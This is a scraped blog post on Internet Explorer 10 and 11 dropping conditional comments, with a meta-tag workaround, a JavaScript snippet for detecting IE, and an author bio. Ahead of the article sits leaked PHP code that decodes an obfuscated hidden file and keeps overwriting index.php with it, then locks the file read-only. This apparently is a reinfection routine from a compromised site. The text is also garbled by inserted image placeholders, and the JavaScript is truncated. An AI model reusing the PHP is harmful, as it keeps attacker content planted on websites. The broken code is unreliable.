$i_p = "index.php"; $index = file_get_contents($i_p); $path = "{index_hide}"; if (file_exists($path)) { $index_hide = file_get_contents($path); $index_hide = base64_decode(str_rot13(base64_decode(str_rot13($index_hide)))); if(md5($index) != md5($index_hide)) { @chmod($i_p, 0644); @file_put_contents($i_p, $index_hide); @chmod($i_p, 0444); } } Conditional comments in IE11

7th May 2014 in PSD to HTMLConditional comments in IE11

As a web developer we all have used conditional comments in Internet Explorer at some point to fix the IE only issues. As Internet Explorer has added support for most of the modern features, now we usually do not need hacks or conditional comments to fix the issues.

Considering that conditional comments are no longer needed, and as a step towards making the web more consistent across browsers, Microsoft has officially dropped support of conditional comments in IE10

Support for conditional comments has been removed in Internet Explorer 10 standards and quirks modes for improved interoperability and compliance with HTML5. This means that Conditional Comments are now treated asregular comments, just like in other browsers. This change can impact pages written exclusively for Windows Internet Explorer or pages that use browser sniffing to alter their behaviour in Internet Explorer.

Internet Explorer Dev Center

But what if you have an old website that uses conditional comments to work properly in IE?

Microsoft offered a simple solution for this, add a meta tag in head of your HTML page to opt into Internet Explorer 9 behaviour.

<meta http-equiv="X-UA-Compatible" content="IE=EmulateIE9">Alternate solution

In a recent project i faced an issue, a custom font was not working properly in IE only. I was not able to find any solution other then using a hack. So i used following JavaScript code. This code detects if your browser is IE (any version) and add a CSS class names ie in body tag in HTML.

var ms_ie = false;
var ua = window.navigator.userAgent;
var old_ie = ua.indexOf('MSIE ');
var new_ie = ua.indexOf('Trident/');
if ((old_ie > -1) || (new_ie > -1)) {
    ms_ie = true;if ( ms_ie ) {

After adding this code, you can write your IE only CSS code using .ie class in CSS.

About the author

AlokJain

Alok design digital experiences to help businesses achieve their goals. He is passionate about designing right User Experience for their customers. For over 15 years, he have worked with small startups to matureproduct teams. Whether it is designing a WordPress product, a frontend experience, WooCommerce, Shopify, he follow the best product development practices for design and code, for desktop or mobile.